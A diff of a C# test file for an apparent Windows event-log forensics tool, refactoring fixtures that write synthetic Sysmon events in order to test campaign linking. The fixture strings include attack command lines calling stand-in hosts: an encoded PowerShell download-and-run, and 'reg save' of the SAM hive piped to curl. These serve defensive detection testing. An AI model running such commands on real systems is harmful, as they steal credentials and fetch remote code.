@@ -126,7 +126,7 @@ public sealed class LinkTests : IDisposable
     [Fact]
     public void One_address_alone_makes_no_campaign_and_the_page_says_why()
     {
-        string a = Investigate(MadeUp("PC-1.one.example", "203.0.113.7"), "a"), b = Investigate(MadeUp("PC-2.two.example", "203.0.113.7"), "b");
+        string a = Investigate(Caller("PC-1.one.example", "203.0.113.7"), "a"), b = Investigate(Caller("PC-2.two.example", "203.0.113.7"), "b");
 
         string page = _program.Run("link", a, b, "--min", "low").Out;
 
@@ -252,27 +252,36 @@ public sealed class LinkTests : IDisposable
         $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s{(another is null ? "" : $" http://{another}/s")}")))!;
 
     // One unpublished program that speaks to one domain.
-    private string Implant(string computer) => Path.GetDirectoryName(_program.Write($"evidence-{Guid.NewGuid():N}/one.evtx", EvtxWriter.ToBytes(writer =>
+    private string Implant(string computer) =>
+        Speaker(computer, @"C:\Users\Public\kqzrunner.exe", "SHA256=" + new string('7', 60) + "ABCD", "kqzone.example.net", 22, ("QueryName", "kqzone.example.net"));
+
+    // A program of Windows that speaks to one address.
+    private string Caller(string computer, string address) =>
+        Speaker(computer, @"C:\Windows\System32\cmd.exe", "", address, 3, ("Initiated", "true"), ("SourceIp", "10.0.0.5"), ("DestinationIp", address));
+
+    // A program that is told to speak to a host, and does.
+    private string Speaker(string computer, string image, string hashes, string host, ushort contact, params (string Name, string Value)[] spoken) => Path.GetDirectoryName(_program.Write($"evidence-{Guid.NewGuid():N}/one.evtx", EvtxWriter.ToBytes(writer =>
     {
-        foreach (string command in new[] { "powershell -enc SQBFAFgA http://kqzone.example.net/qzx.ps1", @"reg save HKLM\SAM c:\users\public\s.dat & curl http://kqzone.example.net/s" })
+        (string Name, string Value)[] process = [("UtcTime", "2024-03-01 12:00:00.000"), ("ProcessGuid", "{747f3d96-1111-5e5a-0000-001000000001}"), ("ProcessId", "4711"), ("Image", image), ("User", "LAB\\alice")];
+        foreach (string command in new[] { $"powershell -enc SQBFAFgA http://{host}/qzx.ps1", $@"reg save HKLM\SAM c:\users\public\s.dat & curl http://{host}/s" })
         {
-            writer.Write(new EvtxEvent
-            {
-                Provider = "Microsoft-Windows-Sysmon",
-                ProviderGuid = new Guid("5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
-                EventId = 1,
-                Version = 5,
-                Time = TestEvidence.Start,
-                Channel = "Microsoft-Windows-Sysmon/Operational",
-                Computer = computer,
-                UserSid = "S-1-5-18",
-                Data =
-                [
-                    ("UtcTime", "2024-03-01 12:00:00.000"), ("Image", @"C:\Users\Public\kqzrunner.exe"), ("Company", "-"), ("Product", "-"), ("OriginalFileName", "-"),
-                    ("CommandLine", command), ("User", "LAB\\alice"), ("Hashes", "SHA256=" + new string('7', 60) + "ABCD"),
-                ],
-            });
+            Write(1, [.. process, ("Company", "-"), ("Product", "-"), ("OriginalFileName", "-"), ("CommandLine", command), ("Hashes", hashes)]);
         }
+
+        Write(contact, [.. process, .. spoken]);
+
+        void Write(ushort id, (string Name, string Value)[] data) => writer.Write(new EvtxEvent
+        {
+            Provider = "Microsoft-Windows-Sysmon",
+            ProviderGuid = new Guid("5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
+            EventId = id,
+            Version = 5,
+            Time = TestEvidence.Start,
+            Channel = "Microsoft-Windows-Sysmon/Operational",
+            Computer = computer,
+            UserSid = "S-1-5-18",
+            Data = [.. data],
+        });
     })))!;
 
     private static string OneLine(string page) => Regex.Replace(page, @"\s+", " ");
